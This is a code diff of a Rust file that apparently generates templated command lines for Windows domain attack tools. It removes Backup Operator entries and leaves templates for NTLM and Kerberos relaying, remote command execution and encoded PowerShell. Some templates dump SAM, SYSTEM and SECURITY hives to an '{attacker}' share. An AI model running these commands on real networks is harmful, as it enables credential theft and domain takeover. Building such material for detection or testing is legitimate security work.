@@ -89,7 +89,6 @@ const RELAY: &[&str] = &[
     "{nxc} «smb¦winrm¦mssql» {nxctarget} {nxcauth} {m} «--local-auth¦--log {stem}.txt¦| tee {shout}»",
     "{py}ntlmrelayx.py -t smb://{ip} -smb2support -c '{c}'",
     r#"{py}ntlmrelayx.py -tf targets.txt -smb2support --no-http-server -c "{c}""#,
-    "«BackupOperatorToDA.exe¦BackupOperatorToolkit.exe¦backup_operator.py» {b}",
     "«KrbRelay.exe¦KrbRelayUp.exe¦DavRelayUp.exe» {kr}",
     "impacket-reg «-dc-ip {ip} ¦-hashes {hashes} ¦-k -no-pass ¦»{target} {op}",
     r"reg.py «-o \\\\{attacker}\\{share} ¦»{target} {op}",
@@ -183,13 +182,6 @@ const ACTS: &[(&str, &str)] = &[
         ),
     ),
     (
-        "b",
-        concat!(
-            r"«-t \\{plainhost} -u {user} -p {password} -d {domain} -o \\{attacker}\{share} # SAM SYSTEM ",
-            r"SECURITY¦DUMPSAM {dir}¦DUMP {dir} \\{plainhost} SAM¦--save-sam {dir}»"
-        ),
-    ),
-    (
         "kr",
         concat!(
             "«-spn cifs/{fqdn} -clsid {guid} -secrets # SAM¦-spn host/{fqdn} -clsid {guid} -reg-save SAM ",
@@ -261,7 +253,6 @@ const OTHERS: &[(&str, &str)] = &[
             "{outfile}¦powershell -enc {b64_60}»"
         ),
     ),
-    ("b", "«--help¦-u {user} -p {password} --list-groups¦SERVICE {stem}¦IFEO {plainhost}»"),
     (
         "kr",
         concat!(
